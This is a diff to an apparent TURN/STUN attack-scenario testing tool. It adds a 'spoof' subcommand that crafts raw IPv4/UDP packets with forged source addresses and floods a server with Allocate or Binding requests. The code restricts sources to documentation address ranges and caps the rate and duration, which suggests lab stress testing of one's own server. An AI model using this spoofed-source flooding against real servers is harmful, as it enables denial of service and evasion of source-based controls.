@@ -5,7 +5,8 @@ Standard library only. Messages are lists of attributes in any order;
 the pseudo attributes MI and FP compute MESSAGE-INTEGRITY (long-term
 key from a TURN REST credential) and FINGERPRINT over what precedes
 them, wherever they are put, so anything may follow them. Sends over
-UDP or TCP, whole, cut short or trickled.
+UDP or TCP, whole, cut short or trickled; or, for spoof, over a raw
+socket from forged IPv4 sources.
 
 Each subcommand runs one attack scenario and prints one line per step,
 "STEP CODE [detail]" (CODE: 0 success, an error code, or "none" for no
@@ -409,11 +410,73 @@ def cmd_conns(a):
     for c in socks:
         c.close()
 
+DOC_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
+
+
+def spoof_sources(nets, hosts, count):
+    """count source transport addresses: the hosts LO-HI of each /24 in
+    nets (documentation ranges only), then more ports on each"""
+    lo, hi = (int(x) for x in hosts.split("-"))
+    ips = []
+    for net in nets:
+        pre = net.split("/")[0].rsplit(".", 1)[0] + "."
+        if pre not in DOC_NETS or not 1 <= lo <= hi <= 254:
+            sys.exit("spoof: only hosts 1-254 of 192.0.2.0/24, "
+                     "198.51.100.0/24 and 203.0.113.0/24")
+        ips += [pre + str(h) for h in range(lo, hi + 1)]
+    return [(ips[k % len(ips)], 1024 + k // len(ips))
+            for k in range(count)], len(ips)
+
+
+def raw_udp(src, sport, dst, dport, payload):
+    """an IPv4 header (the kernel fills in its checksum) and a UDP one
+    (checksum 0: none, RFC 768), then the payload"""
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0,
+                     64, 17, 0, socket.inet_aton(src),
+                     socket.inet_aton(dst))
+    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) \
+        + payload
+
+
+def cmd_spoof(a):
+    """Allocates or Bindings over a raw socket (IP_HDRINCL) from forged
+    sources toward the UDP listener, paced at --rate for --duration
+    (bounded: 10000/s, 15 s, 65536 sources); nothing is read back"""
+    rate, dur = min(a.rate, 10000), min(a.duration, 15.0)
+    srcs, nips = spoof_sources(a.nets, a.hosts, min(a.count, 65536))
+    host, port = a.server.rsplit(":", 1)
+    port = int(port)
+    if a.kind == "binding":
+        msg = [build(BINDING, []) for _ in srcs]
+    else:
+        msg = [build(ALLOCATE, [(REQTRANSPORT, b"\x11\0\0\0")])
+               for _ in srcs]
+    pkts = [raw_udp(ip, sp, host, port, m) for (ip, sp), m in zip(srcs, msg)]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    total, sent, failed = int(rate * dur), 0, 0
+    t0 = time.monotonic()
+    for i in range(total):
+        if i % 20 == 0:
+            late = t0 + i / rate - time.monotonic()
+            if late > 0:
+                time.sleep(late)
+        try:
+            s.sendto(pkts[i % len(pkts)], (host, 0))
+            sent += 1
+        except OSError:
+            failed += 1
+    el = time.monotonic() - t0
+    s.close()
+    step("spoof", sent, "%s from %d sources on %d addresses in %.2f s "
+         "(%.0f/s), %d not sent" % (a.kind, len(srcs), nips, el, sent / el,
+                                    failed))
+
 
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     ap.add_argument("cmd", choices=["aftermi", "dupattr", "fmt", "evenport",
-                                    "peers", "bigmsg", "trickle", "conns"])
+                                    "peers", "bigmsg", "trickle", "conns",
+                                    "spoof"])
     ap.add_argument("--server", required=True, help="IP:PORT")
     ap.add_argument("--secret", default="")
     ap.add_argument("--user", default="atk")
@@ -431,6 +494,14 @@ def main():
     ap.add_argument("--hold", type=float, default=0)
     ap.add_argument("--interval", type=float, default=0.5)
     ap.add_argument("--max", type=float, default=10)
+    ap.add_argument("--kind", choices=["allocate", "binding"],
+                    default="allocate")
+    ap.add_argument("--nets", nargs="*",
+                    default=["203.0.113.0/24", "198.51.100.0/24",
+                             "192.0.2.0/24"])
+    ap.add_argument("--hosts", default="21-254", help="LO-HI of each /24")
+    ap.add_argument("--rate", type=int, default=10000)
+    ap.add_argument("--duration", type=float, default=4)
     a = ap.parse_args()
     globals()["cmd_" + a.cmd](a)
 
